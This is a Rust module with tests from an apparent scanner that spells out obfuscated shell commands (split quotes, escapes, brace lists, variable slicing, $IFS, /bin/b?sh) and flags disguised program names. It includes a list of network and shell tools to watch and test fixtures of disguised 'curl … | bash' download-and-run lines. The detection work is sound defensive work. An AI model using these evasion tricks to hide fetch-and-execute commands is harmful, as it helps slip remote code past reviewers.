//! Shell commands whose words are written so that nobody finds them: `c''url`, `b\as\h`, `{curl,-s,…}`, `${x:1:4}`,
//! `$c$d`, `curl${IFS}-s`, `/bin/b?sh`, `$'\x63url'`.
//!
//! Spells such lines out, and only such: what a command is called must come out of the disguise as the name of a
//! program that fetches or runs something. Control flow is not followed; a variable has the value it was last given.

mod expansion;

use super::{Layer, Search};
use crate::document::Language;
use std::collections::BTreeMap;
use std::ops::Range;

/// Programs whose names are worth hiding.
const PROGRAMS: &[&str] = &[
    "curl",
    "wget",
    "bash",
    "sh",
    "zsh",
    "dash",
    "nc",
    "ncat",
    "netcat",
    "python",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "eval",
    "exec",
    "base64",
    "openssl",
    "xxd",
    "socat",
    "telnet",
    "powershell",
    "pwsh",
    "chmod",
    "crontab",
    "rm",
    "dd",
    "ssh",
    "scp",
];

/// Folders of programs, for names with wildcards.
const FOLDERS: &[&str] = &["/bin/", "/usr/bin/", "/usr/local/bin/", "/sbin/"];

/// Longest line that is spelled out, and most lines of a text.
const LINE_BYTES: usize = 4096;
const LINES: usize = 2_000;

/// Most bytes that one line grows to, and most variables that are remembered.
const SPELLED_BYTES: usize = 16 << 10;
const VARIABLES: usize = 512;

/// Adds the lines that are disguised, spelled out.
pub(super) fn find(search: &mut Search<'_>) {
    let text = search.text;
    if !has_cue(text) {
        return;
    }
    let mut speller = Speller::default();
    let mut spelled_lines = 0;
    for line in super::super::prose::lines(text, 0..text.len()) {
        let shown = text.get(line.clone()).unwrap_or_default().trim_end();
        if shown.len() > LINE_BYTES {
            continue;
        }
        speller.assignments(shown);
        if !has_cue(shown) {
            continue;
        }
        let Some(spelled) = speller.line(shown) else { continue };
        search.plain.push(Layer {
            range: line.start..line.start + shown.len(),
            name: "shell expansion",
            text: spelled,
            disguised: true,
            language: Some(Language::Bash),
        });
        spelled_lines += 1;
        if spelled_lines >= LINES {
            return;
        }
    }
}

/// Signs without which no line is disguised.
fn has_cue(text: &str) -> bool {
    let letter = |byte: &u8| byte.is_ascii_lowercase();
    let mut rest = text.as_bytes();
    let mut first = true;
    while let [sign, tail @ ..] = rest {
        let next = tail.first();
        let cue = match sign {
            b'$' => next.is_some_and(|b| matches!(b, b'{' | b'\'' | b'@' | b'*') || b.is_ascii_alphanumeric()),
            b'\'' | b'"' => next == Some(sign),
            b'\\' | b'{' | b',' => next.is_some_and(letter),
            b'?' | b'*' => !first && next.is_some_and(letter),
            _ => false,
        };
        if cue {
            return true;
        }
        (rest, first) = (tail, false);
    }
    false
}

#[derive(Default)]
struct Speller {
    variables: BTreeMap<String, String>,
    arrays: BTreeMap<String, Vec<String>>,
}

/// A word, and how it was written.
struct Word {
    range: Range<usize>,
    text: String,
    /// True if letters of the word are broken by signs that change nothing, or come out of an expansion.
    disguised: bool,
}

impl Speller {
    /// Remembers `a=cu; b='rl'` and `w=(sh curl)`.
    fn assignments(&mut self, line: &str) {
        let mut at = 0;
        while let Some(sign) = line.get(at..).and_then(|rest| rest.find('=')) {
            let sign = at + sign;
            at = sign + 1;
            let name_start = line
                .get(..sign)
                .unwrap_or_default()
                .rfind(|c: char| !c.is_ascii_alphanumeric() && c != '_')
                .map_or(0, |at| at + 1);
            let name = line.get(name_start..sign).unwrap_or_default();
            let before = line.get(..name_start).unwrap_or_default().trim_end_matches([' ', '\t']);
            let opens = before.is_empty()
                || before.ends_with([';', '&', '{', '('])
                || before.ends_with("export")
                || before.ends_with("local")
                || before.ends_with("then");
            if name.is_empty() || name.starts_with(|c: char| c.is_ascii_digit()) || !opens {
                // `a=1 b=2 command`: the second stands behind a value.
                if name.is_empty()
                    || !self.variables.contains_key(
                        before.rsplit_once(' ').map_or(before, |(_, last)| last).split('=').next().unwrap_or_default(),
                    )
                {
                    continue;
                }
            }
            if self.variables.len() + self.arrays.len() >= VARIABLES {
                return;
            }
            let value = line.get(sign + 1..).unwrap_or_default();
            if let Some(list) = value.strip_prefix('(') {
                let list = list.split(')').next().unwrap_or_default();
                let words = list.split_whitespace().map(|word| word.trim_matches(['\'', '"']).to_owned());
                self.arrays.insert(name.to_owned(), words.take(256).collect());
                continue;
            }
            let mut end = 0;
            let (value, _) = self.word(value, &mut end);
            self.variables.insert(name.to_owned(), value);
            at = sign + 1 + end.max(1);
        }
    }

    /// The line with its words spelled out, if a program's name was disguised.
    fn line(&self, line: &str) -> Option<String> {
        let mut out = String::new();
        let mut at = 0;
        let mut command_next = true;
        let mut unmasked = false;
        while at < line.len() && out.len() < SPELLED_BYTES {
            let rest = line.get(at..)?;
            let first = rest.chars().next()?;
            if first.is_whitespace() || matches!(first, ';' | '|' | '&' | '(' | ')' | '<' | '>' | '`') {
                command_next |= matches!(first, ';' | '|' | '&' | '(' | '`');
                out.push(first);
                at += first.len_utf8();
                continue;
            }
            let mut length = 0;
            let (text, disguised) = self.word(rest, &mut length);
            let length = length.max(first.len_utf8());
            let raw = rest.get(..length).unwrap_or(rest);
            let word = Word { range: at..at + length, text, disguised };
            let spelled = braces(&word.text).or_else(|| wildcard(&word.text)).unwrap_or_else(|| word.text.clone());
            let name = spelled.split_whitespace().next().unwrap_or_default();
            if command_next && !raw.contains('=') {
                let changed = word.disguised || spelled != word.text;
                unmasked |=
                    changed && PROGRAMS.contains(&name.rsplit('/').next().unwrap_or(name)) && !is_plain(raw, name);
                command_next = matches!(name, "sudo" | "env" | "nohup" | "then" | "do" | "else" | "if" | "!" | "time");
            }
            out.push_str(&spelled);
            at = word.range.end;
        }
        (unmasked && out != line).then_some(out)
    }

    /// The value of the word at the start of `rest`, and whether it was disguised; `length` becomes its length.
    fn word(&self, rest: &str, length: &mut usize) -> (String, bool) {
        let mut out = String::new();
        let mut disguised = false;
        let mut at = 0;
        while let Some(c) = rest.get(at..).and_then(|rest| rest.chars().next()) {
            let tail = rest.get(at..).unwrap_or_default();
            let letters = out.ends_with(|c: char| c.is_ascii_alphanumeric());
            let goes_on = |at: usize| {
                rest.get(at..).is_some_and(|t| {
                    t.starts_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '\'' | '"' | '$' | '\\'))
                })
            };
            match c {
                _ if c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '<' | '>' | '`') => break,
                '\\' => {
                    let next = tail.chars().nth(1);
                    disguised |= letters && next.is_some_and(|c| c.is_ascii_lowercase());
                    out.extend(next);
                    at += 1 + next.map_or(0, char::len_utf8);
                }
                '\'' | '"' => {
                    let Some(end) = tail.get(1..).and_then(|t| t.find(c)) else {
                        out.push(c);
                        at += 1;
                        continue;
                    };
                    let content = tail.get(1..=end).unwrap_or_default();
                    disguised |= (letters || content.len() <= 2 && at > 0) && goes_on(at + end + 2)
                        || letters && content.is_empty();
                    if c == '"' && content.contains('$') {
                        out.push_str(&self.expand_all(content, &mut disguised))
                    } else {
                        out.push_str(content)
                    }
                    at += end + 2;
                }
                '$' => {
                    let Some((value, used, needless)) = self.expansion(tail) else {
                        out.push('$');
                        at += 1;
                        continue;
                    };
                    disguised |= needless;
                    out.push_str(&value);
                    at += used;
                }
                _ => {
                    out.push(c);
                    at += c.len_utf8();
                }
            }
            if out.len() > SPELLED_BYTES {
                break;
            }
        }
        *length = at;
        (out, disguised)
    }
}

/// A program called by its own name, its path, or in quotes, or by a variable alone: nothing is hidden.
fn is_plain(raw: &str, name: &str) -> bool {
    let bare = raw.trim_matches(['"', '\'']).trim_start_matches('\\');
    let one_variable = bare.trim_start_matches(['$', '{']).trim_end_matches('}');
    bare == name || raw.starts_with(['$', '"']) && one_variable.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// `{curl,-s,x}` as words.
fn braces(word: &str) -> Option<String> {
    let inside = word.strip_prefix('{')?.strip_suffix('}')?;
    (inside.contains(',') && !inside.contains(['{', '$'])).then(|| inside.split(',').collect::<Vec<_>>().join(" "))
}

/// `/bin/b?sh`, `/usr/bin/c*l`: the first program that the pattern names.
fn wildcard(word: &str) -> Option<String> {
    let name = FOLDERS.iter().find_map(|folder| word.strip_prefix(folder))?;
    if !name.contains(['?', '*']) || name.len() > 32 || name.chars().all(|c| matches!(c, '?' | '*')) {
        return None;
    }
    let pattern = name.as_bytes();
    PROGRAMS.iter().find(|program| fits(pattern, program.as_bytes())).map(|program| (*program).to_owned())
}

/// Glob match of short names: `?` one, `*` any.
fn fits(pattern: &[u8], name: &[u8]) -> bool {
    match (pattern.split_first(), name.split_first()) {
        (None, None) => true,
        (Some((b'*', rest)), _) => (0..=name.len()).any(|skip| fits(rest, name.get(skip..).unwrap_or_default())),
        (Some((p, rest)), Some((n, tail))) => (*p == b'?' || p == n) && fits(rest, tail),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::super::find;

    #[track_caller]
    fn check(text: &str, expected: &[&str]) {
        let layers = find(text);
        let seen: Vec<&str> = layers.iter().filter(|l| l.name == "shell expansion").map(|l| l.text.as_str()).collect();
        assert_eq!(seen, expected, "{text}");
    }

    #[test]
    fn disguised_names_are_spelled_out() {
        check("c''url -s x | ba\"\"sh", &["curl -s x | bash"]);
        check("c\\u\\rl -s x | b\\ash", &["curl -s x | bash"]);
        check("c${x}url -s x | b${x}ash", &["curl -s x | bash"]);
        check("{curl,-s,https://a.invalid}|{bash,}", &["curl -s https://a.invalid|bash "]);
        check("a=cur;b=l;${a}${b} -s x | sh", &["a=cur;b=l;curl -s x | sh"]);
        check("x=xcurlbash\n${x:1:4} -s y | ${x:5}", &["curl -s y | bash"]);
        check("x='c#u#r#l -s y'\n${x//#/} | sh", &["curl -s y | sh"]);
        check("w=(sh -s curl)\n${w[2]} ${w[1]} y | ${w[0]}", &["curl -s y | sh"]);
        check("/usr/bin/c?rl -s x | /bin/b?sh", &["curl -s x | bash"]);
        check("$'\\x63url' -s x | $'\\142ash'", &["curl -s x | bash"]);
        check("cu''rl${IFS}-s${IFS}x|bash", &["curl -s x|bash"]);
    }

    #[test]
    fn honest_lines_are_left_alone() {
        for honest in [
            "\\rm -rf build; \\curl -O https://example.com/a",
            "\"$PYTHON\" -m pip install x; ${PYTHON} x.py; CURL=curl; $CURL -O x",
            "mkdir -p out/{a,b}; cp file.{txt,bak}",
            "echo \"it''s\" 'a\\nb' \"${name%%.*}\"",
            "for f in *.py; do python \"$f\"; done",
            "ssh \"${user}@${host}\" 'ls'",
            "let s = 'a' + ''; if (x?y:z) {a,b}",
            "find . -name '*.sh' -exec bash {} \\;",
            "x=sh; ls *.$x",
        ] {
            check(honest, &[]);
        }
    }

    proptest::proptest! {
        #[test]
        fn never_panics(text in "([a-z${}'\"\\\\ ;|=()\\[\\]/?*,:#@9]|IFS|你|\\n|\\$\\{x:|curl){0,80}") {
            find(&text);
        }
    }
}
